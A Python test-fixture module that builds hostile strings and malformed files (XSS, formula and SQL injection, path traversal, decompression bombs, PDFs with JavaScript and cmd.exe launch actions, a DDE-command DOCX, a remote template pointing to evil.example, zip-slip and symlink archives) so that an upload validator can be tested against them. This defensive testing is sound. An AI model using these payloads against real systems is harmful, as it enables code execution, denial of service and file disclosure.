"""Hostile files and strings, made here: what strangers send, for every feature's tests."""

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from werkzeug.datastructures import FileStorage

MEGABYTE = "ă" * (1024 * 1024)

STRINGS: dict[str, str] = {
    "html": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=alert(1) x='",
    "image": "<img src=x onerror=alert(1)>",
    "javascript_url": "javascript:alert(1)",
    "template": "{{7*7}}${7*7}<%= 7*7 %>{0.__class__}",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "header": "An\r\nBcc: victim@example.org",
    "zero_width": "Nguyễn\u200b Văn\u200d An",
    "rtl": "Nguyễn \u202egpj.nA\u202c",
    "nfd": unicodedata.normalize("NFD", "Đặng Thị Huế"),
    "nul": "An\x00Bình",
    "surrogate": "An\ud800Bình",
    "percent": "%00%0a%(name)s %s %d",
    "emoji": "👩‍🔬 Cô giáo 👨‍👩‍👧‍👦",
    "typst": '#eval("1+1") *bold* $x$ @ref #include "/etc/passwd"',
    "markdown": "[bấm](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "sql": "'; DROP TABLE person; --",
    "path": "../../etc/passwd",
    "long_word": "x" * 5_000,
}
"""One of each kind; `MEGABYTE` is apart, since it is only sent where a form reads it."""

FORMULAS = tuple(text for name, text in STRINGS.items() if name.startswith("formula"))


def png(width: int = 40, height: int = 30, color: str = "teal") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def jpeg(width: int = 40, height: int = 30) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize((width, height)).convert("RGB").save(out, "JPEG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A photo lying on its side that says where it was taken, by which camera, and by whom."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SECRET-CAMERA"
    exif[0x013B] = "SECRET-AUTHOR"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (22.0, 23.0, 7.0)
    out = io.BytesIO()
    Image.new("RGB", (60, 30), "olive").save(
        out, "JPEG", exif=exif, comment=b"SECRET-COMMENT", icc_profile=b"SECRET-ICC" * 20
    )
    return out.getvalue()


def png_bomb(side: int = 30_000) -> bytes:
    """A hundred kilobytes that want to become 900 million points."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    packer = zlib.compressobj(9)
    row = b"\x00" * (side // 8 + 1)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def gif_javascript() -> bytes:
    """At once a GIF to a sniffer and a script to a browser."""
    return b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)//" + b"\x3b"


def jpeg_html() -> bytes:
    """A true JPEG with a page of script behind its end."""
    return jpeg() + b"<html><script>alert(1)</script></html>"


def svg_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def html_page() -> bytes:
    return b"<!doctype html><title>x</title><script>alert(1)</script>"


def pdf(*, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """A small whole PDF; `catalog` is added to its catalogue, `extra` is one more object."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    ]
    if extra:
        objects.append(extra)
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + body + b"endobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


def pdf_javascript() -> bytes:
    return pdf(catalog=b"/OpenAction 4 0 R", extra=b"<</S/JavaScript/JS(app.alert(1))>>")


def pdf_javascript_escaped() -> bytes:
    return pdf(catalog=b"/Open#41ction 4 0 R", extra=b"<</S/Java#53cript/J#53(app.alert(1))>>")


def pdf_javascript_packed() -> bytes:
    """The same, with the action hidden in a compressed object stream."""
    packed = zlib.compress(b"5 0 <</S/JavaScript/JS(app.alert(1))>>")
    head = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return pdf(extra=head + packed + b"\nendstream ")


def pdf_launch() -> bytes:
    return pdf(extra=b"<</S/Launch/F(cmd.exe)>>")


def pdf_with_file() -> bytes:
    return pdf(catalog=b"/Names<</EmbeddedFiles 4 0 R>>", extra=b"<</Names[]>>")


def pdf_encrypted() -> bytes:
    return pdf().replace(b"trailer<<", b"trailer<</Encrypt 9 0 R")


def pdf_opening_at_a_page() -> bytes:
    """Harmless: what LaTeX and Word write."""
    return pdf(catalog=b"/OpenAction 4 0 R", extra=b"<</S/GoTo/D[3 0 R/Fit]>>")


_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONSHIPS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
_OFFICE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_MAIN = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(text: str = "Xin chào", parts: dict[str, bytes] | None = None, body: bytes = b"") -> bytes:
    """A small whole DOCX with more `parts`, or with another `body`."""
    body = body or b"<w:p><w:r><w:t>" + text.encode() + b"</w:t></w:r></w:p>"
    given = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELATIONSHIPS
        + b'<Relationship Id="r1" Type="%sofficeDocument" Target="word/document.xml"/></Relationships>'
        % _OFFICE,
        "word/document.xml": b'<?xml version="1.0"?><w:document %s><w:body>%s</w:body></w:document>'
        % (_MAIN, body),
        **(parts or {}),
    }
    return archive(given)


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return out.getvalue()


def docx_macro() -> bytes:
    return docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def docx_bomb(megabytes: int = 80) -> bytes:
    """Three hundred kilobytes that unpack to eighty megabytes of paragraphs."""
    return docx(body=b"<w:p/>" * (megabytes * 1024 * 1024 // 6))


def docx_many_entries() -> bytes:
    return docx(parts={f"word/media/{number}.txt": b"x" for number in range(2_001)})


def docx_remote_template() -> bytes:
    link = (
        b'<Relationship Id="r1" Type="%sattachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/></Relationships>' % _OFFICE
    )
    return docx(parts={"word/_rels/settings.xml.rels": _RELATIONSHIPS + link})


def docx_hyperlink() -> bytes:
    """Harmless: a link in the text."""
    link = (
        b'<Relationship Id="r1" Type="%shyperlink" Target="https://example.org/" '
        b'TargetMode="External"/></Relationships>' % _OFFICE
    )
    return docx(parts={"word/_rels/document.xml.rels": _RELATIONSHIPS + link})


def docx_dde() -> bytes:
    return docx(
        body=b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    )


def docx_entities() -> bytes:
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><w>&b;</w>'
    return docx(parts={"word/styles.xml": laughs})


def docx_nested() -> bytes:
    return docx(parts={"word/embeddings/inner.zip": archive({"a": b"b"})})


def docx_slip() -> bytes:
    return docx(parts={"../../evil.txt": b"x"})


def docx_symlink() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("word/link")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def docx_lying() -> bytes:
    """Its directory declares an entry smaller than it is."""
    whole = bytearray(docx(parts={"word/media/a.txt": b"x" * 4000}))
    at = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"word/media/a.txt"))
    whole[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(whole)


def old_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


HOSTILE_FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "png_bomb": (png_bomb, "anh.png"),
    "gif_javascript": (gif_javascript, "anh.gif"),
    "gif_javascript_as_jpg": (gif_javascript, "anh.jpg"),
    "svg_script": (svg_script, "anh.svg"),
    "svg_as_png": (svg_script, "anh.png"),
    "html": (html_page, "trang.html"),
    "html_as_txt": (html_page, "trang.txt"),
    "pdf_as_jpg": (pdf_launch, "anh.jpg"),
    "pdf_javascript": (pdf_javascript, "minh-chung.pdf"),
    "pdf_javascript_escaped": (pdf_javascript_escaped, "minh-chung.pdf"),
    "pdf_javascript_packed": (pdf_javascript_packed, "minh-chung.pdf"),
    "pdf_launch": (pdf_launch, "minh-chung.pdf"),
    "pdf_with_file": (pdf_with_file, "minh-chung.pdf"),
    "pdf_encrypted": (pdf_encrypted, "minh-chung.pdf"),
    "pdf_cut_off": (lambda: pdf()[:200], "minh-chung.pdf"),
    "docx_macro": (docx_macro, "du-thao.docx"),
    "docx_bomb": (docx_bomb, "du-thao.docx"),
    "docx_many_entries": (docx_many_entries, "du-thao.docx"),
    "docx_remote_template": (docx_remote_template, "du-thao.docx"),
    "docx_dde": (docx_dde, "du-thao.docx"),
    "docx_entities": (docx_entities, "du-thao.docx"),
    "docx_nested": (docx_nested, "du-thao.docx"),
    "docx_slip": (docx_slip, "du-thao.docx"),
    "docx_symlink": (docx_symlink, "du-thao.docx"),
    "docx_cut_off": (lambda: docx()[:-40], "du-thao.docx"),
    "docx_lying": (docx_lying, "du-thao.docx"),
    "old_doc": (old_doc, "du-thao.doc"),
    "empty": (lambda: b"", "rong.pdf"),
    "noise": (lambda: bytes(range(256)) * 8, "gi-do.bin"),
}
"""Every file that no field may take: how to make it, and the name it comes under."""


def upload(content: bytes, name: str, field: str = "file") -> FileStorage:
    """An upload as a view receives it."""
    return FileStorage(io.BytesIO(content), filename=name, name=field)
